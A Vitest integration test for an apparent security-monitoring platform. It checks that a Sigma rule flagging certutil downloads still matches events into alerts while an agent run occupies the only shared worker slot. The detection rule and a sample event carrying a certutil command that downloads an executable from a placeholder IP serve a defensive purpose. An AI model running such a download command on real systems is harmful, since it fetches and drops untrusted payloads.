import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WorkerRunner } from '../../src/platform/jobs/runner.js';
import { bearer, createTestApp, type TestContext } from '../support/app.js';
import { startServiceWorker } from '../support/worker.js';
import { until } from '../support/until.js';
import { configureModel, createAgent, waitForRun } from '../support/agents.js';
import { startFakeOpenAI, type FakeOpenAI } from '../support/fakes/openai-server.js';

/**
 * Issue 44 item 4: event matching has worker slots of its own (the reserved lane). The one shared
 * slot runs an agent run whose model call the fake model server holds; events posted meanwhile
 * must still be matched into an alert before that run ends (before the model answers at all).
 */
let t: TestContext;
let key: string;
let openai: FakeOpenAI;
let worker: WorkerRunner;
let release!: () => void;
const held = new Promise<void>((r) => (release = r));

const RULE = `title: Certutil download
id: 1b7a2c3d-4e5f-4a6b-9c8d-7e6f5a4b3c2d
status: test
level: high
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    CommandLine|contains|all: ['certutil', '-urlcache']
  condition: selection
`;

beforeAll(async () => {
  t = await createTestApp({ env: { RAMPART_ALLOW_PRIVATE_NETWORKS: 'true' } });
  key = t.orgA.apiKey.key;
  openai = await startFakeOpenAI({
    apiKey: 'sk-test',
    script: async () => {
      await held;
      return { text: 'Done.' };
    },
  });
  await configureModel(t, key, { name: 'held', type: 'openai', baseUrl: openai.url, apiKey: 'sk-test', alias: 'default', modelId: 'gpt-4o-mini' });
  // One shared slot, one kept slot: the reserved lane is what lets matching run while the shared one is busy.
  worker = await startServiceWorker(t, { concurrency: 1, reservedConcurrency: 1 });
});
afterAll(async () => {
  release?.();
  await worker?.stop();
  await openai?.close();
  await t?.close();
});

describe('event matching has worker slots of its own', () => {
  it('events are matched into an alert while the only shared slot waits on a model call', async () => {
    const imported = await t.app.inject({ method: 'POST', url: '/api/code-detections/import', headers: bearer(key), payload: { format: 'sigma', content: RULE } });
    expect(imported.statusCode, imported.body).toBe(200);
    const detectionId = imported.json().created[0].id as string;
    const agentId = await createAgent(t, key, { name: 'Slow model' });
    const run = await t.app.inject({ method: 'POST', url: `/api/agents/${agentId}/run-async`, headers: bearer(key), payload: { input: 'a long triage' } });
    expect(run.statusCode, run.body).toBe(200);
    const runId = run.json().runId as string;
    await until('the shared slot to be busy', async () => openai.requests.length === 1, { everyMs: 20 });

    const posted = await t.app.inject({
      method: 'POST',
      url: '/api/events?product=windows&category=process_creation',
      headers: { ...bearer(key), 'content-type': 'application/x-ndjson' },
      payload: JSON.stringify({ CommandLine: 'certutil.exe -urlcache -split -f http://198.51.100.7/p.exe p.exe', User: 'CORP\\carol' }),
    });
    expect(posted.statusCode, posted.body).toBe(202);
    const alertOf = async () =>
      ((await t.app.inject({ url: '/api/alerts?limit=100', headers: bearer(key) })).json().alerts as Array<{ codeDetectionId: string | null; title: string }>).filter((a) => a.codeDetectionId === detectionId);
    await until('the events to be matched into an alert', async () => (await alertOf()).length === 1, { everyMs: 20 });
    expect((await alertOf())[0]!.title).toBe('Certutil download');

    // The run still holds the shared slot: matching did not wait for it.
    expect((await t.app.inject({ url: `/api/agents/${agentId}/run-async/${runId}/status`, headers: bearer(key) })).json().status).toBe('running');
    release();
    expect((await waitForRun(t, key, agentId, runId, ['done', 'error', 'interrupted'], 60_000)).status).toBe('done');
  });
});
